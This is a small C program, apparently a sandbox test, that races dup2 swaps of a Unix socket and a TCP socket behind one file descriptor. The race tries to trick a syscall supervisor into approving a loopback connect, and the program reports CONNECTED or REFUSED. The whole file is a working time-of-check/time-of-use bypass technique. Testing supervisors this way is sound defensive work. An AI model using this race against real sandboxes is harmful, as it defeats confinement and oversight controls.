/* Tries to slip a connect past the multiplexer: one thread keeps swapping
 * a Unix socket and a TCP socket behind one fd number, hoping the
 * supervisor sees the Unix socket and lets the kernel continue while the
 * kernel then finds the TCP socket. The main thread connects that fd to
 * 127.0.0.1:PORT (argv[1]) over and over and prints "CONNECTED" if any
 * attempt gets through, else "REFUSED N" after N attempts (argv[2]).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#define TARGET 100

static volatile int stop;
static int unix_sock;

static void *swapper(void *arg) {
    (void)arg;
    while (!stop) {
        int tcp = socket(AF_INET, SOCK_STREAM, 0);
        dup2(unix_sock, TARGET);
        dup2(tcp, TARGET);
        close(tcp);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    long tries = atol(argv[2]);
    unix_sock = socket(AF_UNIX, SOCK_STREAM, 0);
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    for (long i = 0; i < tries; i++) {
        if (connect(TARGET, (struct sockaddr *)&a, sizeof a) == 0) {
            stop = 1;
            printf("CONNECTED after %ld\n", i);
            return 0;
        }
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("REFUSED %ld\n", tries);
    return 0;
}
